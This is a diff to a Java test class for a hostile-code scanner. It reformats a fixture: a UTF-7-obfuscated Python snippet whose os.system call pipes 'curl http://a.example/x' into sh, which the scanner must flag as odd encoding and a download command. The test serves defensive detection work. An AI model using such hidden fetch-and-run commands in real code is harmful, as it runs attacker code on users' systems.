@@ -84,7 +84,13 @@ class HostileSourceTest {
         found(scan("\uFEFF" + ATTACK), Signal.DOWNLOAD_COMMAND);
         found(scan(ATTACK.replace("\n", "\r")), Signal.DOWNLOAD_COMMAND);
         found(scan(ATTACK.replace("\n", "\r\n")), Signal.DOWNLOAD_COMMAND);
-        CodeReport hidden = scan("# coding: utf-7\n" + "+AG8-s = 1\nimport os\nos.system('+AGMAdQByAGw- http://a.example/x | sh')\n");
+        CodeReport hidden = scan(
+                """
+                # coding: utf-7
+                +AG8-s = 1
+                import os
+                os.system('+AGMAdQByAGw- http://a.example/x | sh')
+                """);
         found(hidden, Signal.ODD_ENCODING);
         found(hidden, Signal.DOWNLOAD_COMMAND);
         found(scan("# -*- coding: cp1252 -*-\n" + ATTACK), Signal.DOWNLOAD_COMMAND);
